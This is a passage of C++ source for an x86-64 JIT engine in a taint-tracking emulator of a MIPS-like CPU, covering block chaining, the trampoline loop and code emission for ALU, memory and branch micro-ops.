    return static_cast<int32_t>(reinterpret_cast<const char*>(p) - cbase);
  };
  off_.pc = coff(&cpu.pc_);
  off_.st_instructions = coff(&cpu.stats_.instructions);
  off_.st_alu_ops = coff(&cpu.stats_.alu_ops);
  off_.st_loads = coff(&cpu.stats_.loads);
  off_.st_stores = coff(&cpu.stats_.stores);
  off_.st_branches = coff(&cpu.stats_.branches);
  off_.st_taken_branches = coff(&cpu.stats_.taken_branches);
  off_.st_jumps = coff(&cpu.stats_.jumps);
  off_.st_compare_untaints = coff(&cpu.stats_.compare_untaints);
  TaintUnit::Stats& tu = cpu.taint_unit_.stats_ref();
  off_.tu_evaluations = coff(&tu.evaluations);
  off_.tu_tainted_evaluations = coff(&tu.tainted_evaluations);
  off_.tu_compare_untaints = coff(&tu.compare_untaints);
  off_.tu_and_zero_untaints = coff(&tu.and_zero_untaints);
  off_.tu_xor_self_untaints = coff(&tu.xor_self_untaints);
  const mem::TaintedMemory::JitLayout ml = cpu.memory_.jit_layout();
  off_.mem_memo_index = static_cast<int32_t>(ml.memo_index);
  off_.mem_memo_page = static_cast<int32_t>(ml.memo_page);
  off_.mem_wmemo_index = static_cast<int32_t>(ml.wmemo_index);
  off_.mem_wmemo_page = static_cast<int32_t>(ml.wmemo_page);
  off_.page_data = static_cast<int32_t>(ml.page_data);
  off_.page_summary = static_cast<int32_t>(ml.page_summary);

#if PTAINT_JIT_HAVE_MMAP
  void* p = mmap(nullptr, kArenaBytes, PROT_READ | PROT_WRITE | PROT_EXEC,
                 MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  if (p != MAP_FAILED) {
    arena_ = static_cast<uint8_t*>(p);
    arena_cap_ = kArenaBytes;
  }
#endif
}

JitEngine::~JitEngine() {
#if PTAINT_JIT_HAVE_MMAP
  if (arena_ != nullptr) munmap(arena_, arena_cap_);
#endif
}

bool JitEngine::supported() {
#if defined(__x86_64__) && (defined(__unix__) || defined(__APPLE__))
  const char* force = std::getenv("PTAINT_JIT_FORCE_UNSUPPORTED");
  return force == nullptr || force[0] == '\0' || force[0] == '0';
#else
  return false;
#endif
}

void JitEngine::on_reset() {
  arena_used_ = 0;
  stats_.code_bytes = 0;
  compiled_.clear();
  chain_exits_.clear();
  std::fill(itable_.begin(), itable_.end(), IndirectEntry{});
}

// ---------------------------------------------------------------------------
// Cross-block chaining
// ---------------------------------------------------------------------------

namespace {
void patch_rel32(uint8_t* site, const uint8_t* target) {
  const int64_t rel = target - (site + 4);
  const auto v = static_cast<uint32_t>(static_cast<int32_t>(rel));
  std::memcpy(site, &v, 4);
}
}  // namespace

void JitEngine::link_chains() {
  for (ChainExit& x : chain_exits_) {
    if (x.patched) continue;
    const auto it = compiled_.find(x.target_pc);
    if (it == compiled_.end()) continue;
    // Thunk: re-check the budget for one more pass of the target block,
    // debit it, and jump past the target's prologue; on an exhausted budget
    // fall back to the source epilogue (pc is already set).
    Emitter t;
    const auto glen = static_cast<int32_t>(it->second.guest_len);
    t.cmp_m64_imm(Gp::R14, offsetof(Context, budget), glen);
    const size_t out = t.jcc(Cc::CC_B);
    t.sub_m64_imm(Gp::R14, offsetof(Context, budget), glen);
    const size_t to_target = t.jmp();
    t.patch_here(out);
    const size_t to_epilogue = t.jmp();
    if (arena_used_ + t.size() > arena_cap_) return;  // no room, stay unlinked
    uint8_t* thunk = arena_ + arena_used_;
    std::memcpy(thunk, t.code().data(), t.size());
    arena_used_ += t.size();
    stats_.code_bytes = arena_used_;
    patch_rel32(thunk + to_target, it->second.top);
    patch_rel32(thunk + to_epilogue, x.epilogue);
    patch_rel32(x.site, thunk);
    x.patched = true;
  }
  // Refresh the indirect-target cache (collisions just take the miss path).
  for (const auto& [pc, body] : compiled_) {
    itable_[(pc >> 2) & kIndirectMask] = {pc, body.guest_len, body.top};
  }
}

void JitEngine::unlink_chains(uint32_t dead_entry) {
  // Conservative and rare (SMC / snapshot restore): revert every chain so
  // nothing can reach the dead block's code, drop the dead block's own
  // sites, and let the next compile() re-link the survivors.
  for (ChainExit& x : chain_exits_) {
    if (x.patched) {
      patch_rel32(x.site, x.epilogue);
      x.patched = false;
    }
  }
  compiled_.erase(dead_entry);
  std::erase_if(chain_exits_, [dead_entry](const ChainExit& x) {
    return x.source_entry == dead_entry;
  });
  std::fill(itable_.begin(), itable_.end(), IndirectEntry{});
}

void JitEngine::note_block_dropped(const Block& blk) {
  ++stats_.invalidations;
  unlink_chains(blk.entry_pc);
}

// ---------------------------------------------------------------------------
// Trampoline
// ---------------------------------------------------------------------------

StopReason JitEngine::advance(uint64_t n) {
  Cpu& c = cpu_;
  uint64_t remaining = n;
  while (remaining > 0 && c.stop_ == StopReason::kRunning) {
    Block* blk = nullptr;
    const uint32_t pc = c.pc_;
    if (pc % 4 == 0 && pc >= c.text_begin_) {
      const uint32_t idx = (pc - c.text_begin_) / 4;
      if (idx < sb_.block_at_.size()) {
        blk = sb_.block_at_[idx];
        if (blk == nullptr) blk = sb_.translate(pc, idx);
      }
    }
    if (blk == nullptr || blk->guest_len > remaining) {
      // Same irregular-case fallback as the superblock budget loop.
      const uint64_t before = c.stats_.instructions;
      c.step();
      sb_.stats_.step_retired += c.stats_.instructions - before;
      --remaining;
      continue;
    }
    if (blk->host == nullptr && blk->no_jit == 0 &&
        ++blk->heat >= kHotThreshold) {
      compile(*blk);
    }
    const uint64_t before = c.stats_.instructions;
    if (blk->host != nullptr) {
      // The emitted self-loop back edge re-debits guest_len per iteration,
      // so the budget below is what the block may retire beyond this pass.
      ctx_.budget = remaining - blk->guest_len;
      ++stats_.host_entries;
      auto fn = reinterpret_cast<void (*)(Context*)>(
          reinterpret_cast<uintptr_t>(blk->host));
      fn(&ctx_);
      const uint64_t retired = c.stats_.instructions - before;
      stats_.host_retired += retired;
      remaining -= retired;
    } else {
      ++sb_.stats_.blocks_entered;
      sb_.exec_block(*blk, remaining < kInterpSlice ? remaining : kInterpSlice);
      const uint64_t retired = c.stats_.instructions - before;
      sb_.stats_.block_retired += retired;
      remaining -= retired;
    }
    if (!sb_.graveyard_.empty()) sb_.graveyard_.clear();
  }
  return c.stop_;
}

// ---------------------------------------------------------------------------
// Compiler
// ---------------------------------------------------------------------------

void JitEngine::compile(Block& blk) {
  for (const MicroOp& u : blk.uops) {
    if (u.kind == SB::kSyscall) {
      blk.no_jit = 1;
      ++stats_.bailout_syscall;
      return;
    }
    if (u.kind == SB::kBreak) {
      blk.no_jit = 1;
      ++stats_.bailout_break;
      return;
    }
  }
  if (arena_ == nullptr) {
    blk.no_jit = 1;
    ++stats_.bailout_arena_full;
    return;
  }

  Emitter e;
  const TaintPolicy& policy = cpu_.policy_;
  const uint32_t text_begin = cpu_.text_begin_;
  const uint32_t text_end = cpu_.text_end_;

  // Slow-path call sites, emitted after the epilogue.
  enum Recipe : uint8_t {
    R_ALU,      // void (Cpu*, MicroOp*, v); v is in eax at the branch
    R_LW, R_LOADOTHER, R_ADDRLW,   // status (Cpu*, MicroOp*)
    R_SW, R_SS, R_ADDRSW,          // status (Cpu*, MicroOp*, Block*)
    R_BR, R_CMPBR, R_JR, R_JALR,   // terminator: void (Cpu*, MicroOp*)
    // Inline compare-untaint side effect (no call): clear the operands'
    // data-taint bits, bump the counters the hot-path flush can't fold
    // (they only fire on data-tainted operands), and resume the hot path.
    R_BR_UNTAINT, R_CMPBR_UNTAINT,
  };
  struct ColdSite {
    size_t jcc_pos = 0;
    size_t resume = 0;  // hot-path continuation for status==0
    const MicroOp* u = nullptr;
    Recipe recipe = R_ALU;
    Flush flush;  // status recipes: inclusive prefix; terminators: exclusive
  };
  std::vector<ColdSite> colds;
  std::vector<size_t> exit_jumps;  // hot-path "jmp epilogue" fixups
  struct ChainSite {
    size_t pos;       // rel32 operand position in the buffer
    uint32_t target;  // compile-time-known guest target pc
  };
  std::vector<ChainSite> chain_sites;

  Flush acc;  // deferred constants of the micro-ops retired so far
  const auto bump = [&acc](int32_t off, uint64_t n) { acc[off] += n; };
  const auto emit_flush = [&](const Flush& f) {
    for (const auto& [disp, n] : f) {
      if (n != 0) e.add_m64_imm(Gp::R12, disp, static_cast<int32_t>(n));
    }
  };
  const auto slot = [](int r) { return static_cast<int32_t>(8 * r); };
  const auto load_slot = [&](Gp dst, int r) {
    e.mov_r64_m(dst, Gp::R13, slot(r));
  };
  const auto store_slot = [&](int r, Gp src) {
    if (r != 0) e.mov_m_r64(Gp::R13, slot(r), src);
  };
  // Full-width taint test of the TaintedWord in `w`; clobbers `scratch`.
  // Jumps to the pending cold site on any set plane.
  const auto taint_jnz = [&](Gp w, Gp scratch) {
    if (scratch != w) e.mov_r64_r64(scratch, w);
    e.shr_r64_imm(scratch, 32);
    e.test_r16_r16(scratch, scratch);
    return e.jcc(Cc::CC_NE);
  };
  // Data-plane-only taint test — the reference `tainted()` gate.  Address
  // provenance alone triggers no compare side effect, so compares of
  // addresses stay on the hot path.  `scratch` must be rax..rbx (8-bit test).
  const auto data_taint_jnz = [&](Gp w, Gp scratch) {
    if (scratch != w) e.mov_r64_r64(scratch, w);
    e.shr_r64_imm(scratch, 32);
    e.test_r8_imm(scratch, mem::kDataMask);
    return e.jcc(Cc::CC_NE);
  };
  // Clears a register's data-taint bits in place (RegisterFile::untaint).
  const auto untaint_slot = [&](int r) {
    if (r != 0) {
      e.and_m16_imm(Gp::R13, slot(r) + 4,
                    static_cast<uint16_t>(~mem::kDataMask));
    }
  };
  const auto lui_taint = [&](uint32_t v) -> uint64_t {
    return text_begin != 0 && v >= text_begin && v < text_end
               ? static_cast<uint64_t>(mem::kTextAddrMask)
               : 0;
  };
  const auto ra_word = [&](uint32_t pc) {
    return static_cast<uint64_t>(pc) |
           (static_cast<uint64_t>(mem::kTextAddrMask) << 32);
  };

  // Prologue: 4 pushes + sub 8 keeps rsp 16-aligned at helper calls.
  e.push_r64(Gp::RBP);
  e.push_r64(Gp::R12);
  e.push_r64(Gp::R13);
  e.push_r64(Gp::R14);
  e.sub_rsp(8);
  e.mov_r64_r64(Gp::R14, Gp::RDI);
  e.mov_r64_m(Gp::R12, Gp::R14, offsetof(Context, cpu));
  e.mov_r64_m(Gp::R13, Gp::R14, offsetof(Context, regs));
  e.mov_r64_m(Gp::RBP, Gp::R14, offsetof(Context, mem));
  const size_t top = e.size();  // self-loop back-edge target

  // Emits one exit side of a terminator: flush, set pc, leave.  When the
  // (compile-time) target is the block's own entry, a self-loop back edge
  // keeps tight loops entirely in host code; any other known target becomes
  // a chain site, patched to the target's compiled body by link_chains().
  const auto emit_exit = [&](const Flush& f, uint32_t target_pc,
                             bool may_loop) {
    emit_flush(f);
    const bool self_loop = may_loop && target_pc == blk.entry_pc;
    if (self_loop) {
      const int32_t glen = static_cast<int32_t>(blk.guest_len);
      e.cmp_m64_imm(Gp::R14, offsetof(Context, budget), glen);
      const size_t out = e.jcc(Cc::CC_B);
      e.sub_m64_imm(Gp::R14, offsetof(Context, budget), glen);
      e.jmp_to(top);
      e.patch_here(out);
    }
    e.mov_m32_imm(Gp::R12, off_.pc, target_pc);
    const size_t pos = e.jmp();
    exit_jumps.push_back(pos);
    // A self-loop exit only fires on budget exhaustion — chaining it would
    // re-fail the same check, so leave it pointing at the epilogue.
    if (!self_loop) chain_sites.push_back({pos, target_pc});
  };

  for (const MicroOp& u : blk.uops) {
    const isa::Instruction& in = u.inst;
    switch (u.kind) {
      // ---- constants ------------------------------------------------------
      case SB::kLui: {
        if (in.rt != 0) {
          e.mov_r64_imm(Gp::RAX, static_cast<uint64_t>(u.value) |
                                     (lui_taint(u.value) << 32));
          store_slot(in.rt, Gp::RAX);
        }
        bump(off_.st_alu_ops, 1);
        bump(off_.st_instructions, 1);
        break;
      }
      case SB::kLuiOri: {
        const uint32_t lui_v = static_cast<uint32_t>(in.imm & 0xffff) << 16;
        const uint64_t lt = lui_taint(lui_v);
        if (u.aux != 0) {
          e.mov_r64_imm(Gp::RAX,
                        static_cast<uint64_t>(lui_v) | (lt << 32));
          store_slot(in.rt, Gp::RAX);
        }
        if (u.inst2.rt != 0) {
          e.mov_r64_imm(Gp::RAX,
                        static_cast<uint64_t>(u.value) | (lt << 32));
          store_slot(u.inst2.rt, Gp::RAX);
        }
        bump(off_.tu_evaluations, 1);
        bump(off_.st_alu_ops, 2);
        bump(off_.st_instructions, 2);
        break;
      }

      // ---- ALU ------------------------------------------------------------
      case SB::kAddRR: case SB::kSubRR: case SB::kOrRR: case SB::kNorRR:
      case SB::kXorRR: case SB::kAndRR: case SB::kSltRR: case SB::kSltuRR:
      case SB::kSllvRR: case SB::kSrlvRR: case SB::kSravRR:
      case SB::kSllI: case SB::kSrlI: case SB::kSraI:
      case SB::kAddI: case SB::kOrI: case SB::kXorI: case SB::kAndI:
      case SB::kSltI: case SB::kSltuI: {
        const bool shift_var = u.kind == SB::kSllvRR ||
                               u.kind == SB::kSrlvRR || u.kind == SB::kSravRR;
        const bool shift_imm =
            u.kind == SB::kSllI || u.kind == SB::kSrlI || u.kind == SB::kSraI;
        const bool two_reg =
            u.kind >= SB::kAddRR && u.kind <= SB::kSltuRR && !shift_imm;
        const uint8_t dest =
            (two_reg || shift_var || shift_imm) ? in.rd : in.rt;
        size_t to_cold;
        if (shift_var) {
          // a = rt (shifted value), b = rs (amount, consumed via cl).
          load_slot(Gp::RAX, in.rt);
          load_slot(Gp::RCX, in.rs);
          e.mov_r64_r64(Gp::RDX, Gp::RAX);
          e.or_r64_r64(Gp::RDX, Gp::RCX);
          if (u.kind == SB::kSllvRR) e.shl_r32_cl(Gp::RAX);
          if (u.kind == SB::kSrlvRR) e.shr_r32_cl(Gp::RAX);
          if (u.kind == SB::kSravRR) e.sar_r32_cl(Gp::RAX);
          e.shr_r64_imm(Gp::RDX, 32);
          e.test_r16_r16(Gp::RDX, Gp::RDX);
          to_cold = e.jcc(Cc::CC_NE);
        } else if (two_reg) {
          load_slot(Gp::RAX, in.rs);
          load_slot(Gp::RDX, in.rt);
          e.mov_r64_r64(Gp::RCX, Gp::RAX);
          e.or_r64_r64(Gp::RCX, Gp::RDX);
          switch (u.kind) {
            case SB::kAddRR: e.add_r32_r32(Gp::RAX, Gp::RDX); break;
            case SB::kSubRR: e.sub_r32_r32(Gp::RAX, Gp::RDX); break;
            case SB::kOrRR: e.or_r32_r32(Gp::RAX, Gp::RDX); break;
            case SB::kNorRR:
              e.or_r32_r32(Gp::RAX, Gp::RDX);
              e.not_r32(Gp::RAX);
              break;
            case SB::kXorRR: e.xor_r32_r32(Gp::RAX, Gp::RDX); break;
            case SB::kAndRR: e.and_r32_r32(Gp::RAX, Gp::RDX); break;
            default:  // kSltRR / kSltuRR
              e.cmp_r32_r32(Gp::RAX, Gp::RDX);
              e.setcc_r8(u.kind == SB::kSltRR ? Cc::CC_L : Cc::CC_B, Gp::RAX);
              e.movzx_r32_r8(Gp::RAX, Gp::RAX);
              break;
          }
          e.shr_r64_imm(Gp::RCX, 32);
          e.test_r16_r16(Gp::RCX, Gp::RCX);
          to_cold = e.jcc(Cc::CC_NE);
        } else {
          // Immediate forms: a = rs (rt for shift-by-immediate).
          load_slot(Gp::RAX, shift_imm ? in.rt : in.rs);
          e.mov_r64_r64(Gp::RCX, Gp::RAX);
          switch (u.kind) {
            case SB::kSllI: e.shl_r32_imm(Gp::RAX, in.shamt); break;
            case SB::kSrlI: e.shr_r32_imm(Gp::RAX, in.shamt); break;
            case SB::kSraI: e.sar_r32_imm(Gp::RAX, in.shamt); break;
            case SB::kAddI: e.add_r32_imm(Gp::RAX, in.imm); break;
            case SB::kOrI: e.or_r32_imm(Gp::RAX, in.imm & 0xffff); break;
            case SB::kXorI: e.xor_r32_imm(Gp::RAX, in.imm & 0xffff); break;
            case SB::kAndI: e.and_r32_imm(Gp::RAX, in.imm & 0xffff); break;
            default:  // kSltI / kSltuI
              e.cmp_r32_imm(Gp::RAX, in.imm);
              e.setcc_r8(u.kind == SB::kSltI ? Cc::CC_L : Cc::CC_B, Gp::RAX);
              e.movzx_r32_r8(Gp::RAX, Gp::RAX);
              break;
          }
          e.shr_r64_imm(Gp::RCX, 32);
          e.test_r16_r16(Gp::RCX, Gp::RCX);
          to_cold = e.jcc(Cc::CC_NE);
        }
        store_slot(dest, Gp::RAX);

        bump(off_.tu_evaluations, 1);
        if ((u.kind == SB::kAndRR || u.kind == SB::kAndI) &&
            policy.and_zero_untaints) {
          bump(off_.tu_and_zero_untaints, 1);
        }
        if (u.kind == SB::kXorRR && in.rs == in.rt &&
            policy.xor_self_untaints) {
          bump(off_.tu_xor_self_untaints, 1);
        }
        if ((u.kind == SB::kSltRR || u.kind == SB::kSltuRR ||
             u.kind == SB::kSltI || u.kind == SB::kSltuI) &&
            policy.compare_untaints) {
          bump(off_.tu_compare_untaints, 1);
          bump(off_.st_compare_untaints, 1);
        }
        bump(off_.st_alu_ops, 1);
        bump(off_.st_instructions, 1);
        colds.push_back({to_cold, e.size(), &u, R_ALU, {}});
        break;
      }

      case SB::kMulDiv: {
        e.mov_r64_r64(Gp::RDI, Gp::R12);
        e.mov_r64_imm(Gp::RSI, reinterpret_cast<uint64_t>(&u));
        e.mov_r64_imm(Gp::RAX, fn_addr(&JitRuntime::muldiv));
        e.call_r64(Gp::RAX);
        // The helper bumps alu_ops/instructions itself (no flush constants),
        // so stop stubs after it stay exact without compensation.
        break;
      }

      // ---- loads ----------------------------------------------------------
      case SB::kLw: case SB::kLoadOther: {
        const Recipe recipe = u.kind == SB::kLw ? R_LW : R_LOADOTHER;
        std::vector<size_t> to_cold;
        load_slot(Gp::RAX, in.rs);
        if (u.elide == 0) to_cold.push_back(taint_jnz(Gp::RAX, Gp::RCX));
        e.mov_r32_r32(Gp::RDX, Gp::RAX);
        e.add_r32_imm(Gp::RDX, in.imm);  // ea
        if (u.kind == SB::kLw) {
          e.test_r8_imm(Gp::RDX, 3);
          to_cold.push_back(e.jcc(Cc::CC_NE));
        } else if (in.op == isa::Op::kLh || in.op == isa::Op::kLhu) {
          e.test_r8_imm(Gp::RDX, 1);
          to_cold.push_back(e.jcc(Cc::CC_NE));
        }
        e.mov_r32_r32(Gp::RCX, Gp::RDX);
        e.shr_r32_imm(Gp::RCX, 12);
        e.cmp_r32_m(Gp::RCX, Gp::RBP, off_.mem_memo_index);
        to_cold.push_back(e.jcc(Cc::CC_NE));
        e.mov_r64_m(Gp::R8, Gp::RBP, off_.mem_memo_page);
        e.cmp_m64_imm(Gp::R8, off_.page_summary, 0);
        to_cold.push_back(e.jcc(Cc::CC_NE));
        e.and_r32_imm(Gp::RDX, 0xfff);
        if (u.kind == SB::kLw) {
          e.mov_r32_m_bi(Gp::RAX, Gp::R8, Gp::RDX, off_.page_data);
        } else {
          switch (in.op) {
            case isa::Op::kLb:
              e.movsx_r32_m8_bi(Gp::RAX, Gp::R8, Gp::RDX, off_.page_data);
              break;
            case isa::Op::kLbu:
              e.movzx_r32_m8_bi(Gp::RAX, Gp::R8, Gp::RDX, off_.page_data);
              break;
            case isa::Op::kLh:
              e.movsx_r32_m16_bi(Gp::RAX, Gp::R8, Gp::RDX, off_.page_data);
              break;
            default:  // kLhu
              e.movzx_r32_m16_bi(Gp::RAX, Gp::R8, Gp::RDX, off_.page_data);
              break;
          }
        }
        store_slot(in.rt, Gp::RAX);

        bump(off_.st_loads, 1);
        bump(off_.st_instructions, 1);
        Flush inclusive = acc;
        const size_t resume = e.size();
        for (size_t pos : to_cold) {
          colds.push_back({pos, resume, &u, recipe, inclusive});
        }
        break;
      }

      // ---- stores ---------------------------------------------------------
      case SB::kSw: case SB::kStoreSmall: {
        const Recipe recipe = u.kind == SB::kSw ? R_SW : R_SS;
        std::vector<size_t> to_cold;
        load_slot(Gp::RAX, in.rs);
        if (u.elide == 0) to_cold.push_back(taint_jnz(Gp::RAX, Gp::RCX));
        load_slot(Gp::RDX, in.rt);  // value; slot 0 reads {0, 0}
        to_cold.push_back(taint_jnz(Gp::RDX, Gp::R9));
        e.mov_r32_r32(Gp::RCX, Gp::RAX);
        e.add_r32_imm(Gp::RCX, in.imm);  // ea
        if (u.kind == SB::kSw) {
          e.test_r8_imm(Gp::RCX, 3);
          to_cold.push_back(e.jcc(Cc::CC_NE));
        } else if (in.op == isa::Op::kSh) {
          e.test_r8_imm(Gp::RCX, 1);
          to_cold.push_back(e.jcc(Cc::CC_NE));
        }
        // Stores at/above text_end can never invalidate translations; the
        // rare below-text store goes slow and runs the reference guard.
        e.cmp_r32_imm(Gp::RCX, static_cast<int32_t>(text_end));
        to_cold.push_back(e.jcc(Cc::CC_B));
        e.mov_r32_r32(Gp::RSI, Gp::RCX);
        e.shr_r32_imm(Gp::RSI, 12);
        e.cmp_r32_m(Gp::RSI, Gp::RBP, off_.mem_wmemo_index);
        to_cold.push_back(e.jcc(Cc::CC_NE));
        e.mov_r64_m(Gp::R8, Gp::RBP, off_.mem_wmemo_page);
        e.cmp_m64_imm(Gp::R8, off_.page_summary, 0);
        to_cold.push_back(e.jcc(Cc::CC_NE));
        e.and_r32_imm(Gp::RCX, 0xfff);
        if (u.kind == SB::kSw) {
          e.mov_m_r32_bi(Gp::R8, Gp::RCX, off_.page_data, Gp::RDX);
        } else if (in.op == isa::Op::kSh) {
          e.mov_m_r16_bi(Gp::R8, Gp::RCX, off_.page_data, Gp::RDX);
        } else {
          e.mov_m_r8_bi(Gp::R8, Gp::RCX, off_.page_data, Gp::RDX);
        }

        bump(off_.st_stores, 1);
        bump(off_.st_instructions, 1);
        Flush inclusive = acc;
        const size_t resume = e.size();
        for (size_t pos : to_cold) {
          colds.push_back({pos, resume, &u, recipe, inclusive});
        }
        break;
      }

      // ---- fused address-generation pairs ---------------------------------
      case SB::kAddrLw: {
        std::vector<size_t> to_cold;
        load_slot(Gp::RAX, in.rs);
        to_cold.push_back(taint_jnz(Gp::RAX, Gp::RCX));
        e.add_r32_imm(Gp::RAX, in.imm);  // av, zero-extended (taint 0)
        e.mov_r32_r32(Gp::RDX, Gp::RAX);
        e.add_r32_imm(Gp::RDX, u.inst2.imm);  // ea
        e.test_r8_imm(Gp::RDX, 3);
        to_cold.push_back(e.jcc(Cc::CC_NE));
        e.mov_r32_r32(Gp::RCX, Gp::RDX);
        e.shr_r32_imm(Gp::RCX, 12);
        e.cmp_r32_m(Gp::RCX, Gp::RBP, off_.mem_memo_index);
        to_cold.push_back(e.jcc(Cc::CC_NE));
        e.mov_r64_m(Gp::R8, Gp::RBP, off_.mem_memo_page);
        e.cmp_m64_imm(Gp::R8, off_.page_summary, 0);
        to_cold.push_back(e.jcc(Cc::CC_NE));
        // All checks passed — commit both register writes.
        store_slot(in.rt, Gp::RAX);
        e.and_r32_imm(Gp::RDX, 0xfff);
        e.mov_r32_m_bi(Gp::RAX, Gp::R8, Gp::RDX, off_.page_data);
        store_slot(u.inst2.rt, Gp::RAX);

        bump(off_.tu_evaluations, 1);
        bump(off_.st_alu_ops, 1);
        bump(off_.st_loads, 1);
        bump(off_.st_instructions, 2);
        Flush inclusive = acc;
        const size_t resume = e.size();
        for (size_t pos : to_cold) {
          colds.push_back({pos, resume, &u, R_ADDRLW, inclusive});
        }
        break;
      }

      case SB::kAddrSw: {
        const isa::Instruction& si = u.inst2;
        std::vector<size_t> to_cold;
        load_slot(Gp::RAX, in.rs);
        to_cold.push_back(taint_jnz(Gp::RAX, Gp::RCX));
        e.add_r32_imm(Gp::RAX, in.imm);  // av
        if (si.rt == in.rt) {
          // The stored value is the freshly-written av itself (taint 0).
          e.mov_r64_r64(Gp::RDX, Gp::RAX);
        } else {
          load_slot(Gp::RDX, si.rt);
          to_cold.push_back(taint_jnz(Gp::RDX, Gp::R9));
        }
        e.mov_r32_r32(Gp::RCX, Gp::RAX);
        e.add_r32_imm(Gp::RCX, si.imm);  // ea
        e.test_r8_imm(Gp::RCX, 3);
        to_cold.push_back(e.jcc(Cc::CC_NE));
        e.cmp_r32_imm(Gp::RCX, static_cast<int32_t>(text_end));
        to_cold.push_back(e.jcc(Cc::CC_B));
        e.mov_r32_r32(Gp::RSI, Gp::RCX);
        e.shr_r32_imm(Gp::RSI, 12);
        e.cmp_r32_m(Gp::RSI, Gp::RBP, off_.mem_wmemo_index);
        to_cold.push_back(e.jcc(Cc::CC_NE));
        e.mov_r64_m(Gp::R8, Gp::RBP, off_.mem_wmemo_page);
        e.cmp_m64_imm(Gp::R8, off_.page_summary, 0);
        to_cold.push_back(e.jcc(Cc::CC_NE));
        store_slot(in.rt, Gp::RAX);
        e.and_r32_imm(Gp::RCX, 0xfff);
        e.mov_m_r32_bi(Gp::R8, Gp::RCX, off_.page_data, Gp::RDX);

        bump(off_.tu_evaluations, 1);
        bump(off_.st_alu_ops, 1);
        bump(off_.st_stores, 1);
        bump(off_.st_instructions, 2);
        Flush inclusive = acc;
        const size_t resume = e.size();
        for (size_t pos : to_cold) {
          colds.push_back({pos, resume, &u, R_ADDRSW, inclusive});
        }
        break;
      }

      // ---- terminators ----------------------------------------------------
      case SB::kEnd: {
        emit_exit(acc, u.pc, /*may_loop=*/false);
        break;
      }

      case SB::kJ: case SB::kJal: {
        if (u.kind == SB::kJal) {
          e.mov_r64_imm(Gp::RAX, ra_word(u.pc + 4));
          store_slot(isa::kRa, Gp::RAX);
        }
        Flush side = acc;
        side[off_.st_jumps] += 1;
        side[off_.st_instructions] += 1;
        emit_exit(side, in.target, /*may_loop=*/true);
        break;
      }

      case SB::kJr: case SB::kJalr: {
        load_slot(Gp::RAX, in.rs);
        if (u.elide == 0) {
          const size_t pos = taint_jnz(Gp::RAX, Gp::RCX);
          colds.push_back(
              {pos, 0, &u, u.kind == SB::kJr ? R_JR : R_JALR, acc});
        }
        Flush side = acc;
        side[off_.st_jumps] += 1;
        side[off_.st_instructions] += 1;
        emit_flush(side);
        if (u.kind == SB::kJalr && in.rd != 0) {
          e.mov_r64_imm(Gp::RCX, ra_word(u.pc + 4));
          store_slot(in.rd, Gp::RCX);
        }
        // Indirect-target cache probe (eax = target pc): on a hit, re-check
        // and debit the budget and jump straight into the target's body.
        // Misaligned targets miss before probing, so the ~0u sentinel in
        // empty slots can never match.
        e.test_r8_imm(Gp::RAX, 3);
        const size_t miss1 = e.jcc(Cc::CC_NE);
        e.mov_r32_r32(Gp::RCX, Gp::RAX);
        e.shr_r32_imm(Gp::RCX, 2);
        e.and_r32_imm(Gp::RCX, static_cast<int32_t>(kIndirectMask));
        e.shl_r32_imm(Gp::RCX, 4);
        e.mov_r64_imm(Gp::RSI, reinterpret_cast<uint64_t>(itable_.data()));
        e.mov_r32_m_bi(Gp::RDX, Gp::RSI, Gp::RCX, 0);  // entry.pc
        e.cmp_r32_r32(Gp::RDX, Gp::RAX);
        const size_t miss2 = e.jcc(Cc::CC_NE);
        e.mov_r32_m_bi(Gp::RDX, Gp::RSI, Gp::RCX, 4);  // entry.guest_len
        e.cmp_m64_r64(Gp::R14, offsetof(Context, budget), Gp::RDX);
        const size_t miss3 = e.jcc(Cc::CC_B);
        e.sub_m64_r64(Gp::R14, offsetof(Context, budget), Gp::RDX);
        e.jmp_m64_bi(Gp::RSI, Gp::RCX, 8);             // entry.top
        e.patch_here(miss1);
        e.patch_here(miss2);
        e.patch_here(miss3);
        e.mov_m_r32(Gp::R12, off_.pc, Gp::RAX);
        exit_jumps.push_back(e.jmp());
        break;
      }

      case SB::kBranch: {
        load_slot(Gp::RAX, in.rs);
        load_slot(Gp::RDX, in.rt);
        if (policy.compare_untaints) {
          // Data taint on either operand triggers the compare-untaint side
          // effect.  Plain branches inline it (untaint + counter, then
          // resume — input-scanning loops hit this every iteration); the
          // linking forms keep the reference terminator because it orders
          // the $ra write before the untaint.
          const bool linking =
              in.op == isa::Op::kBltzal || in.op == isa::Op::kBgezal;
          e.mov_r64_r64(Gp::RCX, Gp::RAX);
          e.or_r64_r64(Gp::RCX, Gp::RDX);
          const size_t pos = data_taint_jnz(Gp::RCX, Gp::RCX);
          colds.push_back({pos, e.size(), &u,
                           linking ? R_BR : R_BR_UNTAINT, acc});
        }
        if (in.op == isa::Op::kBltzal || in.op == isa::Op::kBgezal) {
          e.mov_r64_imm(Gp::RCX, ra_word(u.pc + 4));
          store_slot(isa::kRa, Gp::RCX);
        }
        Cc cc;
        switch (in.op) {
          case isa::Op::kBeq:
            e.cmp_r32_r32(Gp::RAX, Gp::RDX);
            cc = Cc::CC_E;
            break;
          case isa::Op::kBne:
            e.cmp_r32_r32(Gp::RAX, Gp::RDX);
            cc = Cc::CC_NE;
            break;
          case isa::Op::kBlez:
            e.cmp_r32_imm(Gp::RAX, 0);
            cc = Cc::CC_LE;
            break;
          case isa::Op::kBgtz:
            e.cmp_r32_imm(Gp::RAX, 0);
            cc = Cc::CC_G;
            break;
          case isa::Op::kBltz: case isa::Op::kBltzal:
            e.cmp_r32_imm(Gp::RAX, 0);
            cc = Cc::CC_L;
            break;
          default:  // kBgez / kBgezal
            e.cmp_r32_imm(Gp::RAX, 0);
            cc = Cc::CC_GE;
            break;
        }
        const size_t taken_fix = e.jcc(cc);
        Flush side = acc;
        side[off_.st_branches] += 1;
        side[off_.st_instructions] += 1;
        emit_exit(side, u.pc + 4, /*may_loop=*/false);
        e.patch_here(taken_fix);
        side[off_.st_taken_branches] += 1;
        emit_exit(side, u.pc + 4 + (static_cast<uint32_t>(in.imm) << 2),
                  /*may_loop=*/true);
        break;
      }

      case SB::kCmpBranch: {
        const isa::Instruction& ci = in;
        const bool reg_form =
            ci.op == isa::Op::kSlt || ci.op == isa::Op::kSltu;
        const bool is_signed =
            ci.op == isa::Op::kSlt || ci.op == isa::Op::kSlti;
        const uint8_t dest = reg_form ? ci.rd : ci.rt;
        load_slot(Gp::RAX, ci.rs);
        // With compare-untaints on (the default), a data-tainted compare
        // differs from the hot path only by the in-place operand untaint
